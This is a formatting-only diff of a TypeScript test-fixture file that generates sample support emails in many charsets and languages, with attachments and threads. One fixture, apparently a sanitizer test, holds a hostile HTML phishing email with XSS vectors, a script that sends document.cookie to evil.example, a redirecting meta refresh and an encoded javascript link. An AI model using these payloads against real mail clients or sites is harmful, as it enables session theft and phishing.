@@ -218,18 +218,29 @@ function zip(files: { name: string; data: string }[]): Buffer {
 const TNEF = Buffer.concat([
   Buffer.from([0x78, 0x9f, 0x3e, 0x22, 0x5a, 0x01, 0x01, 0x06, 0x90, 0x08, 0x00, 0x04, 0x00, 0x00, 0x00]),
   Buffer.from([0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x01, 0x07, 0x90, 0x06, 0x00, 0x08, 0x00, 0x00, 0x00]),
-  Buffer.from('\xe4\x04\x00\x00\x00\x00\x00\x00\xe8\x00\x01\x08\x80\x07\x00\x18\x00\x00\x00IPM.Microsoft Mail.Note\x00', 'latin1'),
+  Buffer.from(
+    '\xe4\x04\x00\x00\x00\x00\x00\x00\xe8\x00\x01\x08\x80\x07\x00\x18\x00\x00\x00IPM.Microsoft Mail.Note\x00',
+    'latin1',
+  ),
 ]);
 
 const assets = {
   logoPng: png(24, 8, (x) => (x < 8 ? [0x1f, 0x5c, 0x99] : x < 16 ? [0xff, 0xff, 0xff] : [0xe3, 0x6c, 0x0a])),
-  screenshotPng: png(32, 20, (x, y) => (y < 4 ? [0x33, 0x33, 0x33] : (x + y) % 7 === 0 ? [0xc0, 0x20, 0x20] : [0xf4, 0xf4, 0xf4])),
+  screenshotPng: png(32, 20, (x, y) =>
+    y < 4 ? [0x33, 0x33, 0x33] : (x + y) % 7 === 0 ? [0xc0, 0x20, 0x20] : [0xf4, 0xf4, 0xf4],
+  ),
   gif: GIF_1X1,
   invoicePdf: pdf(['ACME Hosting AS - Invoice 2025-0311', 'Customer 10442', 'Amount due: NOK 1 249,00']),
   scanPdf: pdf(['Scanned document', 'Device: MFP-3F-EAST']),
   logsZip: zip([
-    { name: 'sync.log', data: '2025-03-03T08:12:44Z ERROR sync: token expired (401)\n2025-03-03T08:12:45Z INFO retry in 30s\n' },
-    { name: 'config/settings.json', data: '{"server":"https://sod.superoffice.example/Cust12345","retries":3}\n' },
+    {
+      name: 'sync.log',
+      data: '2025-03-03T08:12:44Z ERROR sync: token expired (401)\n2025-03-03T08:12:45Z INFO retry in 30s\n',
+    },
+    {
+      name: 'config/settings.json',
+      data: '{"server":"https://sod.superoffice.example/Cust12345","retries":3}\n',
+    },
   ]),
   tnef: TNEF,
 };
@@ -429,12 +440,14 @@ Content-Type: multipart/alternative; boundary="000000000000a8c3f2062f6b1d4e"
 Content-Type: text/plain; charset="UTF-8"
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`Hi,
+${qp(
+  u8(`Hi,
 
 my order 55120 arrived today, but the box was crushed and the monitor stand is bent. I attached nothing yet — can you tell me how you want the photos?
 
 Thanks,
-Lars`))}
+Lars`),
+)}
 
 --000000000000a8c3f2062f6b1d4e
 Content-Type: text/html; charset="UTF-8"
@@ -552,7 +565,8 @@ Content-Transfer-Encoding: quoted-printable
 Content-Type: text/plain;
 \tcharset=utf-8
 
-${qp(u8(`Hi,
+${qp(
+  u8(`Hi,
 
 when I export the monthly report I get this dialog:
 
@@ -563,7 +577,8 @@ Then the app closes. Our logo is below for reference.
 
 
 Emma Strand
-Strand Design AB`))}
+Strand Design AB`),
+)}
 --Apple-Mail=_6F3A1C2B-9D8E-4F70-A1B2-C3D4E5F60718
 Content-Type: multipart/related;
 \ttype="text/html";
@@ -626,12 +641,14 @@ MIME-Version: 1.0
 Content-Type: text/plain; charset=utf-8
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`Dear customer,
+${qp(
+  u8(`Dear customer,
 
 your licence for 25 seats expires on 31 March 2025. Renewal price: 12 500 NOK.
 Reply to this mail to renew.
 
-Vendor Billing`))}
+Vendor Billing`),
+)}
 `;
 
 const ATTACH: FixtureMail[] = [
@@ -915,13 +932,15 @@ MIME-Version: 1.0
 Content-Type: text/plain; charset=UTF-8
 Content-Transfer-Encoding: base64
 
-${b64(u8(`Dzień dobry,
+${b64(
+  u8(`Dzień dobry,
 
 do zamówienia 88213 nie dołączono faktury. Proszę o pilne przesłanie.
 
 Z poważaniem,
 Marta Kowalska-Żółć
-`))}
+`),
+)}
 `,
   ),
   m(
@@ -940,12 +959,14 @@ MIME-Version: 1.0
 Content-Type: text/plain; charset=utf-8
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`Grüezi,
+${qp(
+  u8(`Grüezi,
 
 wie groß und wie schwer ist die Palette für Auftrag 4410? Unser Lift trägt höchstens 500 kg.
 
 Freundliche Grüße
-Zoë Müller`))}
+Zoë Müller`),
+)}
 `,
   ),
   m(
@@ -962,12 +983,17 @@ Content-Type: text/plain; charset=ISO-8859-1
 Content-Transfer-Encoding: quoted-printable
 X-Mailer: Microsoft Outlook Express 6.00.2900.5512
 
-${qp(bytes(`Buenos días:
+${qp(
+  bytes(
+    `Buenos días:
 
 La factura de marzo es un 12 % más alta que la de febrero. ¿Podrían explicarme el motivo?
 
 Un saludo,
-José García · Contabilidad`, 'iso-8859-1'))}
+José García · Contabilidad`,
+    'iso-8859-1',
+  ),
+)}
 `,
   ),
   m(
@@ -984,13 +1010,16 @@ Content-Type: text/plain; charset=ISO-2022-JP
 Content-Transfer-Encoding: 7bit
 X-Mailer: Becky! ver. 2.81.04
 
-${bytes(`サポート御中
+${bytes(
+  `サポート御中
 
 先月の請求書を紛失しました。
 再発行をお願いできますでしょうか。
 
 よろしくお願いいたします。
-田中 太郎`, 'iso-2022-jp')}
+田中 太郎`,
+  'iso-2022-jp',
+)}
 `,
   ),
   m(
@@ -1006,13 +1035,16 @@ MIME-Version: 1.0
 Content-Type: text/plain; charset=KOI8-R
 Content-Transfer-Encoding: 8bit
 
-${bytes(`Здравствуйте!
+${bytes(
+  `Здравствуйте!
 
 С понедельника не работает синхронизация календаря.
 Ошибка: «доступ запрещён».
 
 С уважением,
-Иван Иванов`, 'koi8-r')}
+Иван Иванов`,
+  'koi8-r',
+)}
 `,
   ),
   m(
@@ -1031,13 +1063,16 @@ X-Mailer: Microsoft Outlook 16.0
 Thread-Index: AdmOfz0ScHJpY2VfbGlzdA==
 Content-Language: en-ie
 
-${bytes(`Hi,
+${bytes(
+  `Hi,
 
 Your price list says the “Premium” tier costs €49 per user – is that per month or per year?
 We’d need 40 seats… and a quote by Friday.
 
 Thanks,
-Siobhán`, 'windows-1252')}
+Siobhán`,
+  'windows-1252',
+)}
 `,
   ),
   m(
@@ -1053,7 +1088,8 @@ MIME-Version: 1.0
 Content-Type: text/plain
 Content-Transfer-Encoding: 8bit
 
-${bytes(`Hei,
+${bytes(
+  `Hei,
 
 leveransen for uke 10 er forsinket. Nye datoer:
 - Tønsberg: fredag
@@ -1061,7 +1097,9 @@ leveransen for uke 10 er forsinket. Nye datoer:
 - Ålesund: ukjent
 
 Mvh
-Lager Nord – Bjørn`, 'iso-8859-1')}
+Lager Nord – Bjørn`,
+  'iso-8859-1',
+)}
 `,
   ),
   m(
@@ -1220,13 +1258,15 @@ Content-Type: multipart/alternative; boundary="=_so_4711_2_b1e2"
 Content-Type: text/plain; charset=utf-8
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`Hi Ingrid,
+${qp(
+  u8(`Hi Ingrid,
 
 we have restarted the print server queue for MFP-3F-EAST. Can you try again and let us know?
 
 Best regards
 Anders – ACME Service Desk
-Case 4711`))}
+Case 4711`),
+)}
 
 --=_so_4711_2_b1e2
 Content-Type: text/html; charset=utf-8
@@ -1290,9 +1330,11 @@ Content-Type: text/plain; charset=utf-8
 Content-Transfer-Encoding: quoted-printable
 X-Mailer: iPhone Mail (22D72)
 
-${qp(u8(`Scan works again after the weekend. You can close the case.
+${qp(
+  u8(`Scan works again after the weekend. You can close the case.
 
-Sendt fra min iPhone`))}
+Sendt fra min iPhone`),
+)}
 `,
   ),
 ];
@@ -1351,7 +1393,8 @@ Content-Type: multipart/alternative; boundary="0000000000001f2e3d062f8a9b7c"
 Content-Type: text/plain; charset="UTF-8"
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`Sample request body (headers trimmed):
+${qp(
+  u8(`Sample request body (headers trimmed):
 
 {"EjMessageId": 812, "Body": "test", "Type": "Plain"}
 
@@ -1361,7 +1404,8 @@ On Mon, 10 Mar 2025 at 10:00, Ole Brun <ole.brun@example.org> wrote:
 > Hei,
 >
 > our integration gets "400 Entity to save is not in request body" from
-> PUT /api/v1/TicketMessage/{id} since the upgrade.`))}
+> PUT /api/v1/TicketMessage/{id} since the upgrade.`),
+)}
 
 --0000000000001f2e3d062f8a9b7c
 Content-Type: text/html; charset="UTF-8"
@@ -1436,9 +1480,11 @@ Message-Id: <F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9@example.dk>
 To: support@acme.example
 X-Mailer: iPhone Mail (22D72)
 
-${qp(u8(`The guest wifi in meeting room “Fjord” asks for a password nobody knows 🙈
+${qp(
+  u8(`The guest wifi in meeting room “Fjord” asks for a password nobody knows 🙈
 
-Sendt fra min iPhone`))}
+Sendt fra min iPhone`),
+)}
 `,
   ),
   m(
@@ -1498,10 +1544,12 @@ MIME-Version: 1.0
 Content-Type: text/plain; charset="utf-8"
 Content-Transfer-Encoding: base64
 
-${b64(u8(`My laptop (asset 30217) stopped charging. The LED stays off with two different chargers.
+${b64(
+  u8(`My laptop (asset 30217) stopped charging. The LED stays off with two different chargers.
 
 Get Outlook for iOS<https://aka.ms/o0ukef>
-`))}
+`),
+)}
 
 --_000_PAXPR02MB7890D1E2F3A4B5C6D7E8F9A0B1C2PAXPR02MB7890eurp_
 Content-Type: text/html; charset="utf-8"
@@ -1836,7 +1884,8 @@ MIME-Version: 1.0
 Content-Type: text/html; charset=utf-8
 Content-Transfer-Encoding: quoted-printable
 
-${qp(u8(`<html><head><style>body{background:url(javascript:alert(1))}</style><script>fetch('https://evil.example/c?'+document.cookie)</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
+${qp(
+  u8(`<html><head><style>body{background:url(javascript:alert(1))}</style><script>fetch('https://evil.example/c?'+document.cookie)</script><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
 <body onload="alert('x')">
 <p>Your mailbox is full. <a href="javascript:alert(document.domain)">Verify now</a> or <a href="https://evil.example/login" target="_top">log in here</a>.</p>
 <img src="x" onerror="alert(1)"><img src="https://track.promo.example/open.gif?id=77" width="1" height="1">
@@ -1846,7 +1895,8 @@ ${qp(u8(`<html><head><style>body{background:url(javascript:alert(1))}</style><sc
 <object data="https://evil.example/x.swf"></object>
 <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(4)">encoded</a>
 <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">overlay</div>
-</body></html>`))}
+</body></html>`),
+)}
 `,
   ),
   m(
@@ -1913,4 +1963,14 @@ Aino Virtanen
   ),
 ];
 
-run([...PLAIN, ...RICH, ...ATTACH, ...CHARSETS, ...MISSING, ...THREAD_A, ...THREAD_B, ...MOBILE_AND_HEADERS, ...AUTO]);
+run([
+  ...PLAIN,
+  ...RICH,
+  ...ATTACH,
+  ...CHARSETS,
+  ...MISSING,
+  ...THREAD_A,
+  ...THREAD_B,
+  ...MOBILE_AND_HEADERS,
+  ...AUTO,
+]);
